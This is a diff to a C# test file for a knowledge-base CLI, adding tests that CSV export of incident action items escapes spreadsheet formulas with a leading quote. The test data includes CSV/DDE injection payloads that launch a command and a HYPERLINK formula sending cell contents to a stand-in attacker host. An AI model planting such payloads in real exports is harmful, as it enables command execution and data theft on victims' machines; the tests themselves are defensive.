@@ -3,8 +3,31 @@ using KnowledgeBase.Cli.Tests.Support;
 
 namespace KnowledgeBase.Cli.Tests.Commands;
 
-public sealed class ActionsCommandTests
+public sealed class ActionsCommandTests : IDisposable
 {
+    private readonly TempFolder _temp = new();
+
+    public void Dispose() => _temp.Dispose();
+
+    /// <summary>A knowledge base of one incident whose action item has the given title and owner.</summary>
+    private string OneActionItem(string title, string owner)
+    {
+        var input = _temp.Combine("kb");
+        Directory.CreateDirectory(input);
+        File.WriteAllText(Path.Combine(input, "a.md"), $"""
+            ---
+            title: A
+            date: 2024-01-01
+            action_items:
+              - title: {JsonSerializer.Serialize(title)}
+                owner: {JsonSerializer.Serialize(owner)}
+                status: open
+            ---
+            Body
+            """);
+        return input;
+    }
+
     /// <summary>Splits RFC 4180 CSV: quoted fields may hold commas, doubled quotes and line breaks.</summary>
     private static List<List<string>> ParseCsv(string csv)
     {
@@ -92,5 +115,36 @@ public sealed class ActionsCommandTests
     public void An_unknown_status_is_a_usage_error()
     {
         Assert.NotEqual(0, Kb.Run("actions", Repo.Input, "--status", "later").ExitCode);
+    }
+
+    [Theory]
+    [InlineData("=cmd|' /C calc'!A0")]
+    [InlineData("+1+cmd|' /C calc'!A0")]
+    [InlineData("-2+cmd|' /C calc'!A0")]
+    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
+    [InlineData("=HYPERLINK(\"https://attacker.example/?\"&A1, \"click\")")]
+    public void Csv_cells_a_spreadsheet_would_run_as_a_formula_start_with_a_quote_and_parse_back(string formula)
+    {
+        var input = OneActionItem(formula, formula);
+
+        var run = Kb.Run("actions", input, "--format", "csv");
+
+        Assert.Equal(0, run.ExitCode);
+        var rows = ParseCsv(run.Output);
+        Assert.Equal(2, rows.Count);
+        Assert.Equal(7, rows[1].Count);
+        Assert.Equal("'" + formula, rows[1][0]);
+        Assert.Equal("'" + formula, rows[1][2]);
+    }
+
+    [Fact]
+    public void Csv_cells_that_are_not_formulas_are_left_as_written()
+    {
+        var input = OneActionItem("Alert on pool saturation = 80%, then page", "payments-team");
+
+        var rows = ParseCsv(Kb.Run("actions", input, "--format", "csv").Output);
+
+        Assert.Equal("Alert on pool saturation = 80%, then page", rows[1][0]);
+        Assert.Equal("payments-team", rows[1][2]);
     }
 }
